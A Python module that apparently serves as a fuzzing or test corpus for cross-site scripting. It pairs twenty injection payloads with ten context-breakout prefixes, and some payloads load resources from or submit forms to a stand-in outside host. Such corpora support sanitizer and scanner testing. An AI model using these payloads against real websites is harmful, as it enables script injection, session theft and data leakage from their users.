"""Two hundred pieces of planted code: what people paste, and what somebody types who wants a page to run it.

Each would call `zwart`, or ask another place for something. Twenty ways to run, in ten ways to break out of where the
words of a person stand: between tags, in an attribute, in a title, in a text field, in a comment, in a script.
"""

RUNS = (
    "<script>zwart(1)</script>",
    "<img src=x onerror=zwart(1)>",
    "<svg onload=zwart(1)>",
    "<svg><script>zwart(1)</script></svg>",
    "<svg><a xlink:href=javascript:zwart(1)><text y=9>x</text></a></svg>",
    "<details open ontoggle=zwart(1)>x</details>",
    "<input autofocus onfocus=zwart(1)>",
    "<video><source onerror=zwart(1)></video>",
    "<body onload=zwart(1)>",
    "<marquee onstart=zwart(1)>x</marquee>",
    '<a href="javascript:zwart(1)">x</a>',
    '<iframe srcdoc="<script>parent.zwart(1)</script>"></iframe>',
    "<object data=javascript:zwart(1)></object>",
    "<link rel=stylesheet href=//elders.example/x.css>",
    "<style>@import '//elders.example/x.css';</style>",
    '<meta http-equiv=refresh content="0;url=javascript:zwart(1)">',
    "<base href=//elders.example/>",
    "<form action=//elders.example/><button autofocus>x</button></form>",
    " autofocus onfocus=zwart(1) onmouseover=zwart(1) x=",
    "{{ zwart(1) }}${zwart(1)}javascript:zwart(1)",
)
OUT = (
    "{}",
    '"{}',
    "'{}",
    '">{}',
    "'>{}",
    "</title>{}",
    "</textarea>{}",
    "-->{}",
    "</script>{}",
    "\\u003c/p>&lt;{}&gt;",
)
ALL = tuple(way.replace("{}", run, 1) for way in OUT for run in RUNS)
